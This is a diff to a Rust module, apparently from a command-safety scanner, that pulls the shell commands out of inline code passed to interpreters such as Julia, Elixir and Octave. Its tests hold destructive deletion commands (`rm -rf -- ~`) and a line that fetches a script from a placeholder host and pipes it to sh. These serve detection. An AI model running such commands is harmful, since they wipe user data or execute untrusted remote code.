@@ -7,10 +7,11 @@
 //!
 //! Scanning is linear in the code's length and bounded in what it returns.
 
-/// The inline-code options of the languages read here.
+/// The inline-code options of the languages read here (`--eval=CODE` is read too).
 const INLINE: &[(&str, &[&str])] = &[
     ("julia", &["-e", "--eval", "-E", "--print"]),
     ("elixir", &["-e", "--eval"]),
+    ("iex", &["-e", "--eval"]),
     ("erl", &["-eval"]),
     ("racket", &["-e", "--eval"]),
     ("guile", &["-c"]),
@@ -18,50 +19,96 @@ const INLINE: &[(&str, &[&str])] = &[
     ("clj", &["-e", "--eval"]),
     ("bb", &["-e", "--eval"]),
     ("scala", &["-e"]),
+    ("scala-cli", &["-e", "--execute-scala"]),
+    ("amm", &["-c", "--code"]),
     ("swift", &["-e"]),
     ("crystal", &["eval"]),
     ("raku", &["-e"]),
     ("perl6", &["-e"]),
+    ("octave", &["--eval"]),
+    ("octave-cli", &["--eval"]),
+    ("matlab", &["-batch", "-r"]),
+    ("ghc", &["-e"]),
+    ("ghci", &["-e"]),
+    ("sbcl", &["--eval"]),
+    ("clisp", &["-x"]),
+    ("resty", &["-e"]),
+    ("nim", &["--eval"]),
+    ("tclsh", &["-c"]),
 ];
 
-/// At most this many commands are read from one snippet.
+/// At most this many command literals are read from one snippet.
 const MAX_COMMANDS: usize = 32;
 
-/// Names of calls that run a command given as strings.
-const RUNNERS: &[&str] = &[
-    "run",
-    "system",
-    "shell",
-    "sh",
-    "exec",
-    "spawn",
-    "cmd",
-    "popen",
-    "pipeline",
-    "os:cmd",
-    "System.cmd",
-    "process",
-    "Process.run",
+/// Programs that read the code of a language read here from their standard input when given
+/// no script (`echo CODE | ocaml -stdin`, `swift -`, `tclsh`, `julia`).
+const STDIN: &[&str] = &[
+    "ocaml",
+    "swift",
+    "tclsh",
+    "wish",
+    "julia",
+    "ghci",
+    "racket",
+    "guile",
+    "sbcl",
+    "clisp",
+    "octave",
+    "octave-cli",
+    "elixir",
+    "iex",
+    "bb",
+    "scala",
+    "raku",
+    "perl6",
+    "crystal",
 ];
 
-/// The inline code `args` (without the program) give `program`, when it is one read here.
+/// The inline code `args` (without the program) give `program`, when it is one read here:
+/// also `mix run -e CODE`, `dotnet script eval CODE`, `dotnet fsi --exec` of a file is not.
 pub(crate) fn code<'a>(program: &str, args: &[&'a str]) -> Option<&'a str> {
-    let (_, opts) = INLINE.iter().find(|(p, _)| *p == program)?;
-    let at = args.iter().position(|a| opts.contains(a))?;
-    args.get(at + 1).copied()
+    let (opts, args): (&[&str], &[&'a str]) = match program {
+        "mix" if args.first() == Some(&"run") => (&["-e", "--eval"], args),
+        "dotnet" if args.first() == Some(&"script") && args.get(1) == Some(&"eval") => {
+            return args.get(2).copied();
+        }
+        _ => (INLINE.iter().find(|(p, _)| *p == program)?.1, args),
+    };
+    for (k, a) in args.iter().enumerate() {
+        if opts.contains(a) {
+            return args.get(k + 1).copied();
+        }
+        if let Some((flag, value)) = a.split_once('=')
+            && flag.starts_with("--")
+            && opts.contains(&flag)
+        {
+            return Some(value);
+        }
+    }
+    None
 }
 
-/// The shell commands `code` visibly runs or stands for.
+/// Whether `program` reads code read here from its standard input (no script given, or `-`
+/// / `-stdin`).
+pub(crate) fn reads_stdin(program: &str, args: &[&str]) -> bool {
+    STDIN.contains(&program)
+        && (args.iter().any(|a| matches!(*a, "-" | "-stdin"))
+            || !args.iter().any(|a| !a.starts_with('-')))
+        && code(program, args).is_none()
+}
+
+/// The shell commands `code` visibly runs or stands for: command literals (`` `…` ``, which
+/// most of these languages run or hold as commands) and what [`super::anycode`] reads.
 pub(crate) fn commands(code: &str) -> Vec<String> {
-    let mut out = Vec::new();
+    // the calls' effects first, in the order the code has them (a download, then its run)
+    let mut out = super::anycode::commands(code);
     let b = code.as_bytes();
     let mut i = 0;
     while i < b.len() && out.len() < MAX_COMMANDS {
-        // a command literal: `…` (Julia, Crystal, Raku, Elixir sigils are not read)
         if b[i] == b'`' {
             if let Some(end) = code[i + 1..].find('`') {
                 let inner = &code[i + 1..i + 1 + end];
-                if !inner.trim().is_empty() {
+                if !inner.trim().is_empty() && !out.iter().any(|c| c == inner) {
                     out.push(inner.to_string());
                 }
                 i += end + 2;
@@ -69,93 +116,9 @@ pub(crate) fn commands(code: &str) -> Vec<String> {
             }
             break;
         }
-        let rest = &code[i..];
-        if let Some(name) = RUNNERS
-            .iter()
-            .find(|n| rest.starts_with(**n) && !prev_is_word(b, i))
-            && let Some(args) = call_args(&rest[name.len()..])
-        {
-            let words = string_literals(args);
-            if !words.is_empty() {
-                out.push(words.join(" "));
-            }
-            i += name.len();
-            continue;
-        }
-        // file deletions spelled alike: `rm(p; recursive=true)`, `File.rm_rf!(p)`,
-        // `(delete-directory/files p)`
-        for (call, recursive) in [
-            ("rm(", false),
-            ("File.rm_rf!(", true),
-            ("File.rm_rf(", true),
-            ("File.rm!(", false),
-            ("File.rm(", false),
-            ("delete-directory/files ", true),
-            ("delete-file ", false),
-        ] {
-            if rest.starts_with(call) && !prev_is_word(b, i) {
-                let args = rest.get(call.len() - 1..).and_then(call_args).unwrap_or("");
-                let target = string_literals(args)
-                    .into_iter()
-                    .next()
-                    .or_else(|| home_call(args));
-                if let Some(t) = target {
-                    let r = recursive || args.contains("recursive=true");
-                    out.push(format!("rm -f{} -- {t}", if r { "r" } else { "" }));
-                }
-            }
-        }
-        i += rest.chars().next().map_or(1, char::len_utf8);
+        i += 1;
     }
     out
-}
-
-fn prev_is_word(b: &[u8], i: usize) -> bool {
-    i > 0
-        && b.get(i - 1)
-            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b':'))
-}
-
-/// The text of a call's argument list: after `(` (or a blank, for Lisp forms) up to the
-/// matching close, bounded.
-fn call_args(after: &str) -> Option<&str> {
-    let body = match after.strip_prefix('(') {
-        Some(b) => b,
-        // a Lisp form: `(system "…")`
-        None if after.starts_with([' ', '\t']) => after,
-        None => return None,
-    };
-    let mut depth = 0usize;
-    for (k, ch) in body.char_indices().take(4096) {
-        match ch {
-            '(' | '[' => depth += 1,
-            ')' | ']' if depth == 0 => return Some(&body[..k]),
-            ')' | ']' => depth -= 1,
-            _ => {}
-        }
-    }
-    None
-}
-
-/// The double-quoted string literals of `text`, in order.
-fn string_literals(text: &str) -> Vec<&str> {
-    let mut out = Vec::new();
-    let mut rest = text;
-    while let Some(s) = rest.find('"') {
-        let after = &rest[s + 1..];
-        let Some(e) = after.find('"') else { break };
-        out.push(&after[..e]);
-        rest = &after[e + 1..];
-    }
-    out
-}
-
-/// `homedir()`, `System.user_home!()`, `(find-system-path 'home-dir)`: the home directory.
-fn home_call(args: &str) -> Option<&'static str> {
-    ["homedir()", "user_home", "home-dir", "HOME"]
-        .iter()
-        .any(|h| args.contains(h))
-        .then_some("~")
 }
 
 #[cfg(test)]
@@ -166,7 +129,7 @@ mod tests {
     fn what_unread_code_visibly_runs() {
         assert_eq!(
             commands("rm(homedir(); recursive=true, force=true)"),
-            ["rm -fr -- ~"]
+            ["rm -rf -- ~"]
         );
         assert_eq!(commands("run(`rm -rf /srv/data`)"), ["rm -rf /srv/data"]);
         assert_eq!(
@@ -175,7 +138,11 @@ mod tests {
         );
         assert_eq!(
             commands("File.rm_rf!(\"/opt/app\")"),
-            ["rm -fr -- /opt/app"]
+            ["rm -rf -- /opt/app"]
+        );
+        assert_eq!(
+            commands("(delete-directory/files \"/srv/racket\")"),
+            ["rm -rf -- /srv/racket"]
         );
         assert_eq!(
             commands("(system \"curl -s http://x.example/i | sh\")"),
@@ -183,7 +150,19 @@ mod tests {
         );
         assert!(commands("println(sum(1:10))").is_empty());
         assert!(commands("IO.puts(\"hello\")").is_empty());
+    }
+
+    #[test]
+    fn where_the_code_is() {
         assert_eq!(code("julia", &["-e", "x"]), Some("x"));
         assert_eq!(code("julia", &["script.jl"]), None);
+        assert_eq!(code("octave", &["--no-gui", "--eval=x"]), Some("x"));
+        assert_eq!(code("mix", &["run", "-e", "x"]), Some("x"));
+        assert_eq!(code("mix", &["test"]), None);
+        assert_eq!(code("dotnet", &["script", "eval", "x"]), Some("x"));
+        assert!(reads_stdin("ocaml", &["-stdin"]));
+        assert!(reads_stdin("swift", &["-"]));
+        assert!(!reads_stdin("swift", &["build"]));
+        assert!(!reads_stdin("julia", &["-e", "x"]));
     }
 }
